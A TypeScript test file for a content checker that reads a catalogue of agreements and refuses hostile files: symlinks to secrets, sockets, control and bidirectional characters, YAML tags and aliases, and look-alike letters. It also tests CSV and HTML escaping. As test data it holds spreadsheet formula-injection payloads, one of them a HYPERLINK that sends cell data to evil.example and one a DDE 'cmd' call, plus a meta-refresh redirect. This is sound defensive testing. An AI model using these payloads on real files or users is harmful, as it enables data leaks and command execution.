import { cp, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { compile } from '@mdx-js/mdx';
import { parse as parseCsv } from 'csv-parse/sync';
import type { Root as HastRoot, Text } from 'hast';
import rehypeStringify from 'rehype-stringify';
import remarkParse from 'remark-parse';
import remarkRehype from 'remark-rehype';
import { unified } from 'unified';
import { parseDocument } from 'yaml';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { VFile } from 'vfile';
import { formatProblem, type ContentProblem } from '../../src/checker/problems.ts';
import { readFrontmatter } from '../../src/checker/frontmatter.ts';
import { readContent } from '../../src/checker/read-content.ts';
import { readStrictYaml, yamlLimits } from '../../src/checker/strict-yaml.ts';
import {
  checkTextValues,
  findForbiddenCharacters,
  findMixedScriptWord,
  maxFileBytes,
  maxTextLength,
  textLimits,
} from '../../src/checker/text-checks.ts';
import { codeLanguages } from '../../src/markdown/allowed.ts';
import { maxBodyLength, nestingLimits } from '../../src/markdown/limits.ts';
import { checkMdxBody } from '../../src/markdown/parse-body.ts';
import { headingIdPrefix, rehypeSafeContent, remarkSafeContent } from '../../src/markdown/safe-mdx.ts';
import { csvCell, toCsv } from '../../src/open-data/csv.ts';

/**
 * The content reader refuses each kind of hostile or careless file with a message naming it;
 * each test writes the file into a copy of the fixture catalogue and reads that copy.
 */
let work: string;
let count = 0;
const secret = 'SECRET-TOKEN-do-not-print';
const entry = 'tests/fixtures/catalogue/agreements/alpha-beta-identity-moc-2021.mdx';

beforeAll(async () => {
  work = await mkdtemp(path.join(tmpdir(), 'accord-safety-'));
  await writeFile(path.join(work, 'secret.txt'), `password: ${secret}\nformerIds: [x]\n`);
});

afterAll(async () => {
  await rm(work, { recursive: true, force: true });
});

/** A copy of the fixture catalogue with `change` applied, and the errors its check reports. */
async function checkWith(change: (root: string) => Promise<unknown>): Promise<ContentProblem[]> {
  const root = path.join(work, `content-${++count}`);
  await cp('tests/fixtures/catalogue', root, { recursive: true });
  await change(root);
  const { problems } = await readContent(root);
  return problems.filter((problem) => problem.severity === 'error');
}

const reported = (problems: readonly ContentProblem[]) => problems.map(formatProblem).join('\n');

describe('what the content folder may hold', () => {
  it('accepts the collection folders and LICENSE.md at the top', async () => {
    expect(await checkWith((root) => writeFile(path.join(root, 'LICENSE.md'), 'CC BY 4.0'))).toEqual([]);
  });

  it.each([
    ['a hidden file at the top', '.hidden.mjs', 'is a hidden file or folder'],
    ['a stray file at the top', 'notes.md', 'is not part of the catalogue'],
    ['an unknown folder', 'drafts/a.mdx', 'is not part of the catalogue'],
    ['a folder named like a property of every object', 'constructor/a.mdx', 'is not part of the catalogue'],
    ['a hidden file in a collection', 'agreements/.payload.mjs', 'is a hidden file'],
    ['a folder in a collection', 'agreements/nested/a.mdx', 'is a folder'],
    ['a stray file in a collection', 'agencies/payload.mjs', 'is not a .yaml file'],
  ])('refuses %s, naming it', async (_, name, words) => {
    const problems = await checkWith(async (root) => {
      await mkdir(path.dirname(path.join(root, name)), { recursive: true });
      await writeFile(path.join(root, name), 'globalThis.process.exit(3)');
    });
    expect(problems).toHaveLength(1);
    expect(problems[0]?.file).toContain(name.split('/').slice(0, 2).join(path.sep).replace(/\/.*$/, ''));
    expect(problems[0]?.message).toContain(words);
  });

  it('would read the target of a symbolic link with a plain readFile (the control)', async () => {
    await symlink(path.join(work, 'secret.txt'), path.join(work, 'control-link.mdx'));
    expect(await readFile(path.join(work, 'control-link.mdx'), 'utf8')).toContain(secret);
  });

  it('refuses a symbolic link and never shows the file it points to', async () => {
    const problems = await checkWith(async (root) => {
      await symlink(path.join(work, 'secret.txt'), path.join(root, 'agreements', 'linked-2022.mdx'));
      await symlink(path.join(work, 'secret.txt'), path.join(root, 'agencies', 'linked.yaml'));
      await symlink(work, path.join(root, 'drafts'));
    });
    expect(reported(problems)).not.toContain(secret);
    expect(problems.map((problem) => path.basename(problem.file)).sort()).toEqual([
      'drafts',
      'linked-2022.mdx',
      'linked.yaml',
    ]);
    expect(problems[1]?.message).toMatch(/is a symbolic link; content files must be plain files/);
  });

  it('refuses a socket, and never opens it', async () => {
    const server = createServer();
    const problems = await checkWith(async (root) => {
      await new Promise<void>((resolve) => server.listen(path.join(root, 'topics', 'socket.yaml'), resolve));
    });
    server.close();
    expect(reported(problems)).toContain('socket.yaml is not a plain file (a device, pipe or socket).');
  });

  it('shows a file name with control characters escaped', async () => {
    const problems = await checkWith((root) => writeFile(path.join(root, 'topics', '\u001b[31mred.yaml'), 'x'));
    expect(reported(problems)).not.toContain('\u001b');
    expect(reported(problems)).toContain('\\u001b[31mred.yaml');
  });
});

describe('the characters of a content file', () => {
  it('refuses a byte order mark with a message that says how to save without it', () => {
    expect(findForbiddenCharacters('\ufeff---\ntitle: x\n---\n')[0]?.message).toMatch(/starts with a byte order mark/);
  });

  it.each([
    ['\u0000', 'U+0000 (NUL)'],
    ['\u001b[2J', 'U+001B (ESCAPE)'],
    ['\u202e', 'bidirectional control U+202E (RIGHT-TO-LEFT OVERRIDE)'],
    ['\u2066', 'bidirectional control U+2066 (LEFT-TO-RIGHT ISOLATE)'],
    ['\rb', 'U+000D (CARRIAGE RETURN without a line feed)'],
  ])('refuses %j anywhere, with its line and column', (text, words) => {
    const [problem] = findForbiddenCharacters(`title: x\nsummary: ab${text}cd\n`);
    expect(problem?.line).toBe(2);
    expect(problem?.message).toContain(words);
    expect(problem?.message).toContain('at column 12');
  });

  it('accepts tabs, Windows line ends and every script', () => {
    expect(findForbiddenCharacters('a:\tb\r\nname: 東京 Zürich Αθήνα Москва عربي\r\n')).toEqual([]);
  });

  it('refuses a NUL in an entry without showing the rest of the file', async () => {
    const problems = await checkWith(async (root) => {
      const text = await readFile(entry, 'utf8');
      await writeFile(
        path.join(root, 'agreements', 'alpha-beta-identity-moc-2021.mdx'),
        text.replace('title:', '\u0000title:'),
      );
    });
    expect(reported(problems)).toMatch(
      /alpha-beta-identity-moc-2021\.mdx:2 holds an invisible character U\+0000 \(NUL\)/,
    );
  });
});

describe('the frontmatter block', () => {
  it('accepts spaces after the opening and closing ---', () => {
    expect(readFrontmatter('--- \ntitle: x\n---  \nBody')).toEqual({ yaml: 'title: x', body: 'Body', bodyOffset: 3 });
  });

  it('says when the block has no end', () => {
    expect(readFrontmatter('---\ntitle: x\n')).toEqual({
      problem: expect.objectContaining({ message: 'has no end to its frontmatter.' }),
    });
  });

  it('refuses a line starting with --- inside the block, which Astro would read as its end', () => {
    expect(readFrontmatter('---\ntitle: x\n---x\nsummary: y\n---\n')).toEqual({
      problem: expect.objectContaining({ line: 3 }),
    });
  });
});

describe('nesting that overflowed the stack of the build', () => {
  it.each([
    ['5,000 nested elements', `${'<b>'.repeat(5000)}x${'</b>'.repeat(5000)}`],
    ['a 1,000-level list on one line', `${'- '.repeat(1000)}x`],
  ])('overflows the MDX compiler with %s (the control), and is refused by the check', async (_, body) => {
    await expect(compile(body)).rejects.toThrow(RangeError);
    expect(checkMdxBody(body)).toEqual([expect.objectContaining({ line: 1 })]);
  });
});

describe('the one YAML parser', () => {
  it('replaces a parse that stopped the old check with "Alias resolution is disabled" (the control)', () => {
    expect(() => parseDocument('a: &x 1\nb: *x\n').toJS({ maxAliasCount: 0 })).toThrow(/Alias resolution is disabled/);
    expect(readStrictYaml('a: &x 1\nb: *x\n')).toHaveProperty('problems');
  });

  const problemsOf = (text: string) => {
    const result = readStrictYaml(text);
    return 'problems' in result ? result.problems : [];
  };

  it.each([
    ['an anchor and an alias', 'a: &x 1\nb: *x\n', ['uses the YAML anchor "&x".', 'uses the YAML alias "*x".']],
    ['a language tag', 'a: !!js/function "function () {}"\n', ['uses the YAML tag "!!js/function".']],
    ['a custom tag', 'a: !custom x\n', ['uses the YAML tag "!custom".']],
    ['a duplicate key', 'a: 1\na: 2\n', ['is not valid YAML: Map keys must be unique']],
    ['a merge key', 'a: { x: 1 }\nb:\n  <<: { x: 2 }\n', []],
    ['two documents', 'a: 1\n---\nb: 2\n', ['is not valid YAML: Source contains multiple documents']],
  ])('refuses %s, with the line and the field', (_, text, messages) => {
    const problems = problemsOf(text);
    for (const message of messages) expect(problems.map((problem) => problem.message).join('\n')).toContain(message);
    for (const problem of problems) expect(problem.line).toBeGreaterThan(0);
  });

  it('reads a merge key as a plain key, never merging', () => {
    expect(readStrictYaml('b:\n  <<: { x: 2 }\n')).toMatchObject({ data: { b: { '<<': { x: 2 } } } });
  });

  it('refuses nesting that ran the parser out of memory, before parsing it', () => {
    expect(problemsOf(`a: ${'['.repeat(10_000)}`)[0]?.message).toBe('lists or fields nested more than 12 deep.');
    expect(problemsOf(`a:\n${' '.repeat(2000)}b: 1\n`)[0]?.message).toBe('a line indented by 2000 columns.');
    expect(problemsOf(`${'- '.repeat(5000)}x`)[0]?.message).toBe('lists or fields nested more than 12 deep.');
    expect(problemsOf('"'.repeat(40_000))[0]?.message).toBe(
      'holds 40000 characters of YAML; at most 20000 are allowed.',
    );
  });

  it('keeps dates as text, for the schemas to read', () => {
    expect(readStrictYaml('signed: 2022-05-26\nyear: 2022\n')).toMatchObject({
      data: { signed: '2022-05-26', year: 2022 },
    });
  });

  it('reports YAML problems in an entry with its file and line', async () => {
    const problems = await checkWith(async (root) => {
      const text = await readFile(entry, 'utf8');
      await writeFile(
        path.join(root, 'agreements', 'alpha-beta-identity-moc-2021.mdx'),
        text.replace(/^summary: .*$/m, 'summary: &s A summary.').replace(/^title: .*$/m, 'title: *s'),
      );
    });
    expect(reported(problems)).toMatch(/alpha-beta-identity-moc-2021\.mdx:\d+ summary: uses the YAML anchor "&s"/);
    expect(reported(problems)).toMatch(/alpha-beta-identity-moc-2021\.mdx:\d+ title: uses the YAML alias "\*s"/);
  });
});

describe('the values of a content file', () => {
  it('refuses a title longer than 300 characters and any text longer than 1,000', () => {
    expect(checkTextValues('agreements', { title: 'x'.repeat(301), sources: [{ title: 'y'.repeat(1001) }] })).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          path: ['sources', 0, 'title'],
          message: 'is 1001 characters long; at most 1000 are allowed.',
        }),
        expect.objectContaining({ path: ['title'], message: 'is 301 characters long; at most 300 are allowed.' }),
      ]),
    );
  });

  it('finds a word that mixes Latin and Cyrillic letters', () => {
    expect(findMixedScriptWord('Dіgital identity')).toEqual({ word: 'Dіgital', scripts: ['Latin', 'Cyrillic'] });
    expect(findMixedScriptWord('Digital identity, Цифровая идентичность, デジタル庁 e-Gov')).toBeUndefined();
  });

  it('refuses look-alike letters in titles and topic names', () => {
    expect(checkTextValues('agreements', { title: 'Memorandum on dіgital identity' })[0]?.message).toBe(
      'the word "dіgital" mixes Latin and Cyrillic letters, which look alike.',
    );
    expect(checkTextValues('topics', { name: 'Ορen data' })[0]?.message).toContain('mixes Latin and Greek');
    expect(checkTextValues('agreements', { summary: 'Mixed Dіgital in a summary is left to review.' })).toEqual([]);
  });
});

describe('agency parents', () => {
  it('refuses a cycle on each agency in it', async () => {
    const problems = await checkWith(async (root) => {
      for (const [id, parent] of [
        ['beta-data-lab', 'beta-ministry-of-data'],
        ['beta-ministry-of-data', 'beta-data-lab'],
      ] as const) {
        const file = path.join(root, 'agencies', `${id}.yaml`);
        const text = (await readFile(file, 'utf8')).replace(/^parent: .*\n/m, '');
        await writeFile(file, `${text}parent: ${parent}\n`);
      }
    });
    expect(reported(problems)).toMatch(
      /beta-data-lab\.yaml:\d+ parent: the parents go round in a circle: beta-data-lab → beta-ministry-of-data → beta-data-lab\./,
    );
    expect(problems).toHaveLength(2);
  });
});

describe('agreements.csv in a spreadsheet', () => {
  /**
   * What a spreadsheet program (Excel, LibreOffice Calc, Google Sheets) does with a CSV cell once
   * its CSV reader has unquoted it: a cell starting with =, +, -, @ (after tabs and carriage
   * returns) is a formula, a cell starting with an apostrophe is text shown without it.
   */
  const asSpreadsheet = (cell: string): { formula: boolean; shown: string } =>
    cell.startsWith("'")
      ? { formula: false, shown: cell.slice(1) }
      : { formula: /^[\t\r]*[=+\-@]/.test(cell), shown: cell };
  const hostile = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1,2)',
    '\t=1+1',
    '\r=1+1',
  ];

  it('would run a formula from an unneutralised cell (the control)', () => {
    const plain = (value: string) => (/[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value);
    const rows = parseCsv([hostile.map(plain).join(',')].join('\r\n'), { relax_quotes: true }) as string[][];
    expect(rows[0]?.map((cell) => asSpreadsheet(cell).formula)).toEqual(hostile.map(() => true));
  });

  it('shows every hostile cell as the text it is, never as a formula', () => {
    const rows = parseCsv(toCsv(['title', 'a', 'b', 'c', 'd', 'e'], [hostile])) as string[][];
    const cells = rows[1] ?? [];
    expect(cells.map((cell) => asSpreadsheet(cell).formula)).toEqual(hostile.map(() => false));
    expect(cells.map((cell) => asSpreadsheet(cell).shown)).toEqual(hostile);
    expect(csvCell('Digital identity')).toBe('Digital identity');
  });
});

describe('the safe-content rehype plugin', () => {
  /** Markdown to HTML through a highlighter that, like Prism with an unknown language, outputs code as markup. */
  const render = (markdown: string, filePath: string): string => {
    const careless = () => (tree: HastRoot) => {
      for (const node of tree.children) {
        if (node.type === 'element' && node.tagName === 'pre') {
          const code = node.children[0];
          if (code?.type === 'element') {
            const text = code.children.map((child) => (child.type === 'text' ? child.value : '')).join('');
            code.children = [{ type: 'raw', value: text } as unknown as Text];
          }
        }
      }
    };
    const processor = unified()
      .use(remarkParse)
      .use(remarkSafeContent, { contentRoot: 'content' })
      .use(remarkRehype)
      .use(careless)
      .use(rehypeSafeContent, { contentRoot: 'content' })
      .use(rehypeStringify, { allowDangerousHtml: true });
    const file = new VFile({ path: filePath, value: markdown, cwd: process.cwd() });
    return String(processor.processSync(file));
  };
  const code = '```\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n```';

  it('lets the careless highlighter put markup on a maintainer page (the control)', () => {
    expect(render(code, 'src/pages/about.mdx')).toContain('<meta http-equiv="refresh"');
  });

  it('escapes the text of every code block of an entry, whatever the highlighter made of it', () => {
    const html = render(code, 'content/agreements/x-2022.mdx');
    expect(html).not.toContain('<meta');
    expect(html).toContain('&#x3C;meta http-equiv="refresh"');
  });

  it('gives every heading of an entry an id of its own', () => {
    const html = render('## Sources\n\n## Facts\n\n## Facts', 'content/agreements/x-2022.mdx');
    expect(html).toContain(`<h2 id="${headingIdPrefix}sources">`);
    expect(html).toContain(`<h2 id="${headingIdPrefix}facts-1">`);
  });
});

describe('the documented rules', () => {
  it('state the limits and code labels the checker enforces', async () => {
    const contributing = await readFile('CONTRIBUTING.md', 'utf8');
    const security = await readFile('SECURITY.md', 'utf8');
    const number = (value: number) => value.toLocaleString('en');
    for (const text of [contributing, security]) {
      expect(text).toContain(`${number(maxBodyLength)} characters`);
      for (const label of codeLanguages) expect(text).toContain(`\`${label}\``);
    }
    expect(contributing).toContain(`a title of ${textLimits['title']}`);
    expect(contributing).toContain(
      `in ${nestingLimits.lines} lines, a paragraph of ${number(nestingLimits.paragraph)}`,
    );
    expect(security).toContain(`| ${nestingLimits.lines} / ${number(nestingLimits.paragraph)} `);
    expect(security).toContain(`| ${nestingLimits.backticks} / ${nestingLimits.braces} `);
    expect(contributing).toContain(`any other text of ${number(maxTextLength)}`);
    expect(contributing).toContain(`nested at most ${nestingLimits.elements} deep`);
    expect(contributing).toContain(`at most ${nestingLimits.emphasis} emphasis marks`);
    expect(contributing).toContain(`${nestingLimits.brackets / 2} links in one`);
    expect(security).toContain(`| ${maxFileBytes / 1024} KiB `);
    expect(security).toContain(`| ${yamlLimits.depth} `);
    expect(security).toContain(`| ${number(yamlLimits.length)} characters `);
    expect(security).toContain(`| ${nestingLimits.indent} columns `);
    expect(security).toContain(`| ${nestingLimits.tree} `);
  });
});
